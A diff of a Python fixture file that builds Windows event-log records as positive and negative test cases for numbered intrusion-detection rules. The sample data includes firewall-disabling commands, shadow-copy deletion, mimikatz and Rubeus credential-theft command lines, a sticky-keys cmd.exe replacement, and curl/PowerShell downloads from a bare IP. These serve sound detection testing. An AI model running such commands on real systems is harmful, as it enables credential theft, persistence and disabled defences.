@@ -36,7 +36,9 @@ def written(path: str, image: str = "C:\\Users\\Public\\x.exe", seconds: int = 0
     return one | {"Computer": host} if host else one
 
 
-def changed(attribute: str, value: str, name: str = "CN=x,DC=backan", who: str = "canbo01", kind: str = "%%14674") -> Record:
+def changed(
+    attribute: str, value: str, name: str = "CN=x,DC=backan", who: str = "canbo01", kind: str = "%%14674"
+) -> Record:
     return security(
         5136,
         ObjectDN=name,
@@ -52,7 +54,12 @@ def settings() -> None:
           [ran("netsh.exe", "netsh advfirewall  set allprofiles state off"), ran("netsh.exe", "NETSH firewall set opmode disable"), started(POWERSHELL, "powershell Set-NetFirewallProfile -All -Enabled False"), ran("sc.exe", "sc stop MpsSvc")],
           [ran("netsh.exe", "netsh advfirewall set allprofiles state on"), ran("netsh.exe", "netsh advfirewall firewall add rule name=in dir=in action=allow protocol=tcp localport=9100"), ran("sc.exe", "sc query mpssvc")])  # fmt: skip
     policy = "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile\\"
-    alone(81, "Off; on, and another value of the same key, are none.", [registry(policy + "EnableFirewall", OFF)], [registry(policy + "EnableFirewall", ON), registry(policy + "DisableNotifications", OFF)])
+    alone(
+        81,
+        "Off; on, and another value of the same key, are none.",
+        [registry(policy + "EnableFirewall", OFF)],
+        [registry(policy + "EnableFirewall", ON), registry(policy + "DisableNotifications", OFF)],
+    )
     server = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\"
     alone(82, "Let in, and let in without the password first; shut again is none.", [registry(server + "fDenyTSConnections", OFF), registry(server + "WinStations\\RDP-Tcp\\UserAuthentication", OFF)],
           [registry(server + "fDenyTSConnections", ON), registry(server + "fSingleSessionPerUser", OFF)])  # fmt: skip
@@ -80,10 +87,17 @@ def directory() -> None:
     folder = "C:\\Windows\\SYSVOL\\sysvol\\backan.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\"
     alone(49, "By a person's program; by the replication of the controllers, and another file, are none.", [written(folder + "Preferences\\ScheduledTasks\\ScheduledTasks.xml", SYSTEM + "mmc.exe")],
           [written(folder + "Preferences\\ScheduledTasks\\ScheduledTasks.xml", SYSTEM + "DFSRs.exe"), written(folder + "Registry.pol", SYSTEM + "mmc.exe")])  # fmt: skip
-    alone(86, "The object itself; a protected account is none.", [changed("nTSecurityDescriptor", "O:DAG:DAD:", "CN=AdminSDHolder,CN=System,DC=backan,DC=example")], [changed("nTSecurityDescriptor", "O:DAG:DAD:", "CN=Quan tri,CN=Users,DC=backan,DC=example")])
+    alone(
+        86,
+        "The object itself; a protected account is none.",
+        [changed("nTSecurityDescriptor", "O:DAG:DAD:", "CN=AdminSDHolder,CN=System,DC=backan,DC=example")],
+        [changed("nTSecurityDescriptor", "O:DAG:DAD:", "CN=Quan tri,CN=Users,DC=backan,DC=example")],
+    )
 
     def ticket(kind: str, name: str = "canbo01", seconds: int = 0) -> Record:
-        return security(4768, seconds, TargetUserName=name, TicketEncryptionType=kind, Status="0x0", IpAddress=f"::ffff:{INSIDE}")
+        return security(
+            4768, seconds, TargetUserName=name, TicketEncryptionType=kind, Status="0x0", IpAddress=f"::ffff:{INSIDE}"
+        )
 
     case(88, "With RC4, then onto a machine; with AES, by a machine, or from elsewhere, is none.", [[ticket("0x17"), logon(4624, INSIDE, seconds=60)]],
          [[ticket("0x12"), logon(4624, INSIDE, seconds=60)], [ticket("0x17", "MAY-01$"), logon(4624, INSIDE, user="MAY-01$", seconds=60)], [ticket("0x17"), logon(4624, "10.9.9.9", seconds=60)]], "correlation")  # fmt: skip
@@ -108,7 +122,12 @@ def by_hand() -> None:
           [ran("cmd.exe", 'cmd.exe /c "D:\\Cong cu\\sao-luu.cmd"', EXPLORER), started(POWERSHELL, "powershell -ExecutionPolicy RemoteSigned -File D:\\sl.ps1")])  # fmt: skip
 
     def image(path: str, number: int = 1) -> Record:
-        return record("Microsoft-Windows-VHDMP-Operational", "Microsoft-Windows-VHDMP", number, {"VhdFileName": path, "VhdDiskNumber": 2})
+        return record(
+            "Microsoft-Windows-VHDMP-Operational",
+            "Microsoft-Windows-VHDMP",
+            number,
+            {"VhdFileName": path, "VhdDiskNumber": 2},
+        )
 
     alone(97, "From the downloads or a mail; the disc of a server, and another event, are none.", [image("C:\\Users\\canbo01\\Downloads\\cong-van.iso"), image("C:\\Users\\canbo01\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\A1\\moi-hop.img", 12)],
           [image("D:\\MayAo\\may-chu.vhdx"), image("C:\\Users\\canbo01\\Downloads\\cong-van.iso", 26)])  # fmt: skip
@@ -119,22 +138,71 @@ def by_hand() -> None:
 
     case(74, "One stick on five machines; five sticks, and one stick on one machine, are none.", [[stick(n, "60A44C", 3600 * n) for n in range(5)]],
          [[stick(n, f"60A44{n}", 3600 * n) for n in range(5)], [stick(1, "60A44C", 3600 * n) for n in range(5)]], "correlation")  # fmt: skip
-    script = record("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, {"ScriptBlockText": "gwmi Win32_ShadowCopy | % { $_.Delete() }", "MessageNumber": 1})
-    alone(18, "Deleted; listed is none.", [script], [script | {"ScriptBlockText": "Get-CimInstance Win32_ShadowCopy | Format-Table"}])
-    alone(64, "Whatever the program is called; a name that only sounds so is none.", [started("C:\\Temp\\a.exe", 'a.exe "PRIVILEGE::debug" "sekurlsa::logonpasswords" exit'), started("C:\\Temp\\r.exe", "r.exe asktgt /user:quantri /rc4:00")], [started("C:\\Program Files\\x.exe", "x.exe --task-target privilege"), ran("cmd.exe", "cmd /c echo kerberos")])
+    script = record(
+        "Microsoft-Windows-PowerShell/Operational",
+        "Microsoft-Windows-PowerShell",
+        4104,
+        {"ScriptBlockText": "gwmi Win32_ShadowCopy | % { $_.Delete() }", "MessageNumber": 1},
+    )
+    alone(
+        18,
+        "Deleted; listed is none.",
+        [script],
+        [script | {"ScriptBlockText": "Get-CimInstance Win32_ShadowCopy | Format-Table"}],
+    )
+    alone(
+        64,
+        "Whatever the program is called; a name that only sounds so is none.",
+        [
+            started("C:\\Temp\\a.exe", 'a.exe "PRIVILEGE::debug" "sekurlsa::logonpasswords" exit'),
+            started("C:\\Temp\\r.exe", "r.exe asktgt /user:quantri /rc4:00"),
+        ],
+        [started("C:\\Program Files\\x.exe", "x.exe --task-target privilege"), ran("cmd.exe", "cmd /c echo kerberos")],
+    )
     start = "C:\\Users\\canbo01\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
-    alone(65, "A script and a program; a shortcut is none.", [written(start + "a.VBS"), written(start + "capnhat.exe")], [written(start + "Zalo.lnk"), written(start + "desktop.ini")])
+    alone(
+        65,
+        "A script and a program; a shortcut is none.",
+        [written(start + "a.VBS"), written(start + "capnhat.exe")],
+        [written(start + "Zalo.lnk"), written(start + "desktop.ini")],
+    )
     alone(66, "A child, a shell under another name, the replacing itself; the magnifier that opens its settings is none.", [ran("cmd.exe", "cmd.exe", SYSTEM + "utilman.exe"), ran("sethc.exe", "sethc.exe 211", SYSTEM + "winlogon.exe", OriginalFileName="Cmd.Exe"), ran("cmd.exe", "cmd /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\sethc.exe")],
           [ran("magnify.exe", "magnify.exe", SYSTEM + "utilman.exe", OriginalFileName="ScreenMagnifier.exe"), ran("cmd.exe", "cmd /c dir C:\\Windows\\System32\\sethc.exe")])  # fmt: skip
-    kept = record("Microsoft-Windows-WMI-Activity/Operational", "Microsoft-Windows-WMI-Activity", 5861, {"Namespace": "//./root/subscription", "PossibleCause": 'instance of CommandLineEventConsumer { CommandLineTemplate = "a.exe"; };'})
-    alone(67, "A command; the entry that Windows brings along is none.", [kept], [kept | {"PossibleCause": 'instance of NTEventLogEventConsumer { Name = "SCM Event Log Consumer"; };'}, kept | {"EventID": 5857}])
+    kept = record(
+        "Microsoft-Windows-WMI-Activity/Operational",
+        "Microsoft-Windows-WMI-Activity",
+        5861,
+        {
+            "Namespace": "//./root/subscription",
+            "PossibleCause": 'instance of CommandLineEventConsumer { CommandLineTemplate = "a.exe"; };',
+        },
+    )
+    alone(
+        67,
+        "A command; the entry that Windows brings along is none.",
+        [kept],
+        [
+            kept | {"PossibleCause": 'instance of NTEventLogEventConsumer { Name = "SCM Event Log Consumer"; };'},
+            kept | {"EventID": 5857},
+        ],
+    )
     alone(58, "From a bare address; from a name, and from our own network, are none.", [ran("curl.exe", "curl -s -o C:\\Temp\\a.dll http://203.0.113.9:8080/a.dll"), started(POWERSHELL, "powershell iwr http://203.0.113.9/x.txt -OutFile x.ps1")],
           [ran("curl.exe", "curl -o a.msi https://phanmem.backan.example/a.msi"), ran("curl.exe", "curl -o a.exe http://10.20.1.5/a.exe"), ran("curl.exe", "curl http://203.0.113.9/")])  # fmt: skip
 
     def session(number: int, ip: str) -> Record:
-        return record("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", "Microsoft-Windows-TerminalServices-LocalSessionManager", number, {"User": "BACKAN\\canbo01", "Address": ip, "SessionID": 2})
+        return record(
+            "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
+            "Microsoft-Windows-TerminalServices-LocalSessionManager",
+            number,
+            {"User": "BACKAN\\canbo01", "Address": ip, "SessionID": 2},
+        )
 
-    alone(47, "From the Internet, new and taken up again; inside, at the machine, and its end are none.", [session(21, ATTACKER), session(25, ATTACKER)], [session(21, INSIDE), session(21, "LOCAL"), session(24, ATTACKER)])
+    alone(
+        47,
+        "From the Internet, new and taken up again; inside, at the machine, and its end are none.",
+        [session(21, ATTACKER), session(25, ATTACKER)],
+        [session(21, INSIDE), session(21, "LOCAL"), session(24, ATTACKER)],
+    )
 
 
 def main() -> None:
